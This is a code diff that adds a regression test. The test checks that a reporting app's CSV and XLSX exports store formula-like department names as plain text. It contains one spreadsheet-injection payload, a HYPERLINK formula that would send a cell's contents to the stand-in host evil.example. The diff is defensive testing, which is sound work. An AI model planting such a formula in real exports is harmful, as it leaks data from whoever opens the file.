@@ -12,6 +12,7 @@ from openpyxl import load_workbook
 from estimator.models import AIModel
 from reports import exports
 from reports.services import report_settings
+from tests.factories import DepartmentFactory
 from tests.usage.test_dashboard import add_usage
 from usage import rollups
 from usage import services as usage
@@ -152,3 +153,25 @@ def test_bad_periods_and_other_departments_are_refused(client, bruno, research):
     )
     assert bad.status_code == 400 and "period" in bad.context["form"].errors
     assert other.status_code == 400 and "department" in other.context["form"].errors
+
+
+def test_a_department_named_like_a_formula_is_text_in_both_files(client, root):
+    """Issue 14, defect 5: department names come from admins and SSO; no file hands a spreadsheet a formula."""
+    evil = '=HYPERLINK("https://evil.example/?leak="&A2,"Open")'
+    month = timezone.localdate().replace(day=1)
+    _records(DepartmentFactory(name=evil), "gpt-4o", "openai-usage", month)
+    _records(DepartmentFactory(name="-Ops"), "gpt-4o", "openai-usage", month)
+    rollups.rollups_recompute()
+    client.force_login(root)
+    query = {"period": f"{month:%Y-%m}"}
+
+    as_csv = client.get(reverse("reports:export"), {**query, "format": "csv"})
+    as_xlsx = client.get(reverse("reports:export"), {**query, "format": "xlsx"})
+
+    rows = list(csv.reader(io.StringIO(as_csv.content.decode("utf-8-sig"))))
+    assert sorted(row[3] for row in rows[1:]) == ["'-Ops", "'" + evil]
+    assert all(float(row[11]) > 0 for row in rows[1:])  # numbers stay numbers
+    sheet = load_workbook(io.BytesIO(as_xlsx.content)).worksheets[0]
+    cells = [line[3] for line in sheet.iter_rows(min_row=2)]
+    assert sorted(cell.value for cell in cells) == ["-Ops", evil]  # the exact text, stored as text
+    assert {cell.data_type for cell in cells} == {"s"}
